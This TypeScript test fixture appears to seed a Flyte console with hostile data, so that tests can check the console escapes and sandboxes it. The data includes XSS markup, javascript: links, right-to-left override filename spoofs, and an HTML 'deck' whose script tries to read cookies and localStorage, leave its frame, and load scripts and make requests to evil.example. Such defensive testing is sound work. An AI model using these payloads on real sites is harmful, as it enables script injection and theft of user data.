import { create } from "@bufbuild/protobuf";
import { timestampNow } from "@bufbuild/protobuf/wkt";
import type { FlyteClient } from "@flyte-ts/client";
import { NodeExecution_Phase, TaskExecution_Phase } from "@flyte-ts/idl/flyteidl/core/execution_pb";
import { IdentifierSchema, ResourceType } from "@flyte-ts/idl/flyteidl/core/identifier_pb";
import { TaskLog_MessageFormat } from "@flyte-ts/idl/flyteidl/core/execution_pb";
import { BlobType_BlobDimensionality, SimpleType } from "@flyte-ts/idl/flyteidl/core/types_pb";
import { WorkflowMetadata_OnFailurePolicy, WorkflowTemplateSchema } from "@flyte-ts/idl/flyteidl/core/workflow_pb";
import { registerShellWorkflow, TARGET } from "../stack/shell-tasks.js";

/** Overrides the direction of what follows, as far as a page lets it. */
export const OVERRIDE = "\u202e";
/** Sets a global of the page, opens a dialog and calls another host in each way that markup has. */
export const MARKUP =
  `<img src="https://evil.example/a" onerror="window.hostile=1;alert(1)"><script>window.hostile=1</script>` +
  `<a href="javascript:window.hostile=1">link</a><iframe src="https://evil.example/b"></iframe>`;
/** Markdown with raw HTML and links to scripts. */
export const MARKDOWN = `[docs](javascript:window.hostile=1) ![x](https://evil.example/c) ${MARKUP}`;
const SCRIPT_LINK = "javascript:window.hostile=1//";
const LONG_LINE = 1_000_000;
const OSC_LINK = `\u001b]8;;${SCRIPT_LINK}\u0007click\u001b]8;;\u0007`;

/** Markup without the characters that end a term of a filter or a part of a path. */
const MARKUP_IN_NAME = `<img src="x" onerror="window.hostile=1"><script>window.hostile=1`;
/** Longest name of a workflow: 512 bytes with markup and an override, which has three. */
export const LONGEST_NAME = `journeys.${OVERRIDE}${MARKUP_IN_NAME}`.padEnd(510, "n");
/** Longest name of an execution. */
export const EXECUTION = "hostile".padEnd(63, "x");

/** Deck that tries to read what belongs to the console, to leave its frame and to call others. */
export const HOSTILE_DECK = `<!doctype html><meta http-equiv="refresh" content="600"><body><script>
const tried = [];
const attempt = async (name, act) => {
  try { await act(); tried.push(name + " done"); } catch { tried.push(name + " refused"); }
};
const load = (tag, set) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), { onload: resolve, onerror: reject }, set);
  document.body.append(element);
});
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.getItem("flyte-ts.preferences"));
  await attempt("parent", () => parent === window ? Promise.reject(new Error()) : parent.document.title);
  await attempt("navigation", () => { if (top === window) throw new Error(); top.location = "https://evil.example/"; });
  await attempt("call", () => fetch("/api/v1/projects"));
  await attempt("foreign call", () => fetch("https://evil.example/d", { mode: "no-cors" }));
  await attempt("foreign image", () => load("img", { src: "https://evil.example/e" }));
  await attempt("foreign script", () => load("script", { src: "https://evil.example/f" }));
  await attempt("window", () => { if (window.open("https://evil.example/g") === null) throw new Error(); });
  document.body.append(tried.join(", "));
})();
</script>`;
export const REFUSED =
  "cookie refused, storage refused, parent refused, navigation refused, call refused, " +
  "foreign call refused, foreign image refused, foreign script refused, window refused";

/** Lines of the log, which are also the end of the task's error. */
const LINES = [
  MARKUP,
  `${OSC_LINK} \u001b[31m${MARKUP}\u001b[0m`,
  `name ${OVERRIDE}gpj.exe`,
  `{"level":"error","message":${JSON.stringify(MARKDOWN)}}`,
];

/**
 * Starts an execution all of whose texts are hostile: one node has failed with a hostile log, the
 * other runs.
 */
export async function startHostileExecution(client: FlyteClient): Promise<void> {
  const encoded = Buffer.from(`${LINES.join("\n")}\n`).toString("base64");
  const script = `head -c ${LONG_LINE} /dev/zero | tr '\\0' '<'; echo; echo ${encoded} | base64 -d; echo ${encoded} | base64 -d >&2; exit 3`;
  const launchPlan = await registerShellWorkflow(
    client,
    LONGEST_NAME.slice(0, -3),
    [
      { id: "n0", script, after: [] },
      { id: "n1", script: "sleep 600", after: [] },
    ],
    WorkflowMetadata_OnFailurePolicy.FAIL_AFTER_EXECUTABLE_NODES_COMPLETE,
  );
  await client.admin.createExecution({
    ...TARGET,
    name: EXECUTION,
    spec: {
      launchPlan,
      metadata: {},
      annotations: { values: { note: `${OVERRIDE}${MARKDOWN}` } },
      labels: { values: { ["l".repeat(63)]: "v".repeat(63) } },
      tags: [MARKUP.slice(0, 60), `${OVERRIDE}tag`],
      envs: { values: [{ key: "HOSTILE", value: MARKDOWN }] },
    },
  });
}

const node = (nodeId: string) => ({ executionId: { project: TARGET.project, domain: TARGET.domain, name: EXECUTION }, nodeId });

/** Gives the running node a hostile deck, links of its attempt to scripts, and a reason. */
export async function addHostileEvents(client: FlyteClient): Promise<void> {
  const { signedUrl, nativeUrl } = await client.dataProxy.createUploadLocation({
    project: TARGET.project,
    domain: TARGET.domain,
    filename: "deck.html",
    filenameRoot: "decks",
  });
  const { status } = await fetch(signedUrl, { method: "PUT", body: HOSTILE_DECK });
  if (status !== 200) throw new Error(`the deck was not stored: ${status}`);
  const id = node("n1");
  const log = (name: string, uri: string) => ({ name, uri, messageFormat: TaskLog_MessageFormat.UNKNOWN });
  const name = `${LONGEST_NAME.slice(0, -3)}.n1`;
  await client.admin.createTaskEvent({
    event: {
      taskId: { ...TARGET, resourceType: ResourceType.TASK, name },
      parentNodeExecutionId: id,
      phase: TaskExecution_Phase.RUNNING,
      phaseVersion: 9,
      occurredAt: timestampNow(),
      reasons: [{ reason: `${OVERRIDE}${MARKDOWN}`, occurredAt: timestampNow() }],
      logs: [
        log("script", SCRIPT_LINK),
        log("data", "data:text/html,<script>window.hostile=1</script>"),
        log(`${OVERRIDE}gol`, "https://logs.example/safe"),
      ],
    },
  });
  await client.admin.createNodeEvent({
    event: { id, phase: NodeExecution_Phase.SUCCEEDED, occurredAt: timestampNow(), deckUri: nativeUrl },
  });
}

/** Registers a workflow with hostile inputs, descriptions and version. Resolves to its name. */
export async function registerHostileForm(client: FlyteClient): Promise<string> {
  const id = (resourceType: ResourceType) =>
    create(IdentifierSchema, { ...TARGET, resourceType, name: LONGEST_NAME, version: `${OVERRIDE}1` });
  const text = (stringValue: string) =>
    ({ case: "scalar", value: { value: { case: "primitive", value: { value: { case: "stringValue", value: stringValue } } } } }) as const;
  const address = { type: { format: "csv", dimensionality: BlobType_BlobDimensionality.SINGLE } };
  const blob = { case: "scalar", value: { value: { case: "blob", value: { metadata: address, uri: SCRIPT_LINK } } } } as const;
  const variables = {
    [`note${OVERRIDE}`]: { type: { type: { case: "simple" as const, value: SimpleType.STRING } }, description: MARKDOWN },
    [MARKUP]: { type: { type: { case: "blob" as const, value: address.type } }, description: `${OVERRIDE}${MARKDOWN}` },
  };
  const template = create(WorkflowTemplateSchema, {
    id: id(ResourceType.WORKFLOW),
    metadata: {},
    metadataDefaults: {},
    interface: { inputs: { variables }, outputs: {} },
    nodes: [
      {
        id: "n0",
        metadata: { name: MARKUP },
        target: { case: "gateNode", value: { condition: { case: "sleep", value: { duration: { nanos: 1_000_000 } } } } },
      },
    ],
  });
  const description = {
    shortDescription: `${OVERRIDE}${MARKDOWN}`,
    longDescription: { content: { case: "value" as const, value: MARKDOWN } },
  };
  await client.admin.createWorkflow({ id: id(ResourceType.WORKFLOW), spec: { template, description } });
  const defaults = [text(`${OVERRIDE}${MARKDOWN}`), blob];
  const parameters = Object.fromEntries(
    Object.entries(variables).map(([name, variable], index) => {
      const value = defaults[index] ?? blob;
      return [name, { var: variable, behavior: { case: "default" as const, value: { value } } }];
    }),
  );
  await client.admin.createLaunchPlan({
    id: id(ResourceType.LAUNCH_PLAN),
    spec: { workflowId: id(ResourceType.WORKFLOW), entityMetadata: {}, defaultInputs: { parameters } },
  });
  return LONGEST_NAME;
}
